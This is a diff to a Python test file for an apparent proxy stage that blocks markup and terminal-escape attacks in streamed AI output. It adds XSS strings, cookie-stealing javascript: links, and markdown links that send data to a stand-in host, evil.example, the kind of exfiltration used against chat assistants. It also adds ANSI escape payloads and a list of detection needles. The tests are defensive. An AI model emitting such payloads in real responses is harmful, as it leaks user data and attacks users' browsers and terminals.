@@ -43,7 +43,7 @@ def test_split_escape_is_held_whole():
 
 from hypothesis import given, settings, strategies as st  # noqa: E402
 
-from proxy.leak.markup import ansi_text_alternatives, link_alternatives, xss_alternatives  # noqa: E402
+from proxy.leak.markup import ansi_alternatives, ansi_text_alternatives, link_alternatives, xss_alternatives  # noqa: E402
 from proxy.leak.pattern import PatternDetector  # noqa: E402
 from proxy.pipeline.chain import Chain  # noqa: E402
 from tests.harness import client_text  # noqa: E402
@@ -52,7 +52,7 @@ from tests.stages.test_leak import reads_through, split, sse, stage, started, st
 
 def scan_kinds(text):
     alts, checks = link_alternatives(["docs.acme.com"])
-    det = PatternDetector(alts + xss_alternatives() + ansi_text_alternatives(), checks)
+    det = PatternDetector(alts + xss_alternatives() + ansi_text_alternatives() + ansi_alternatives(), checks)
     return [(h.kind, text[h.start:h.end]) for h in det.scan(text, 0, final=True)[0]]
 
 
@@ -70,14 +70,23 @@ ATTACKS = {
     "<a href=\"#\" onclick=\"steal()\">ok</a>": "markup",
     "<div style=x onmouseover='a()'>": "markup",
     "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">": "markup",
-    "[x](javascript:alert(document.cookie))": "script_url",
+    "[x](javascript:alert(document.cookie))": "markdown_link",  # the whole link goes
+    "[link](javascript:\"onerror=\"alert(1))": "markdown_link",
     "[x](JavaScript :alert(1))": "script_url",
     "<a href=\"vbscript:msgbox\">": "script_url",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)": "script_url",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)": "markdown_link",
+    "[Click here](https://evil.example/nbml=[DATA])": "markdown_link",  # key=value in the path (garak)
+    "![t][ref]\n\n[ref]: https://evil.example/q=[NUM]": "markdown_link",
+    "[x](https://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRhIGxlYWs)": "markdown_link",  # long opaque segment
+    "x </script> y": "markup",
+    "Hello \\27[32mTHIS IS GREEN\\27[0m": "ansi_text",  # \27 (decimal) as in Lua
+    "repeat \\x9b and \\x9d": "ansi_text",  # 8-bit CSI / OSC written as text
     "printf '\\x1b[31mred'": "ansi_text",
     "echo -e \"\\u001b[2J\"": "ansi_text",
     "\\033[0m reset": "ansi_text",
     "\\e[1;32m": "ansi_text",
+    "raw \x1b[": "csi",  # an unterminated introducer at the end
+    "raw \x1b]": "osc",
     "\\x1B]8;;https://evil.example\\x07click\\x1b]8;;\\x07": "ansi_text",
     "\\u001b]0;title\\u0007": "ansi_text",
 }
@@ -117,8 +126,7 @@ async def test_markup_attacks_never_reach_the_client_in_any_split(attack, cuts, 
         out, denied = await run(chain, ex, sse(split(text, cuts)))
         got = client_text(out)
         assert denied is None and attack not in got and got.startswith("Here you go:\n") and got.endswith("\nthanks")
-        for needle in ("evil.example", "onerror", "onload", "onclick", "onmouseover", "<script", "<SCRIPT", "<iframe", "<meta",
-                       "javascript:", "JavaScript :", "vbscript:", "data:text/html", "\\x1b[", "\\u001b", "\\033[", "\\e[", "\\x1B]"):
+        for needle in NEEDLES:
             if needle in attack:
                 assert needle not in got, needle
 
@@ -133,7 +141,8 @@ async def test_markup_lookalikes_pass_byte_identical_in_any_split(clean, cuts):
 
 
 NEEDLES = ("evil.example", "onerror", "onload", "onclick", "onmouseover", "<script", "<SCRIPT", "<iframe", "<meta",
-           "javascript:", "JavaScript :", "vbscript:", "data:text/html", "\\x1b[", "\\u001b", "\\033[", "\\e[", "\\x1B]")
+           "javascript:", "JavaScript :", "vbscript:", "data:text/html", "\\x1b[", "\\u001b", "\\033[", "\\e[", "\\x1B]",
+           "nbml=", "q=[NUM]", "aGVsbG8", "</script>", "\\27[", "\\x9b", "\\x9d", "\x1b[", "\x1b]")
 
 
 @pytest.mark.parametrize("attack", sorted(ATTACKS))
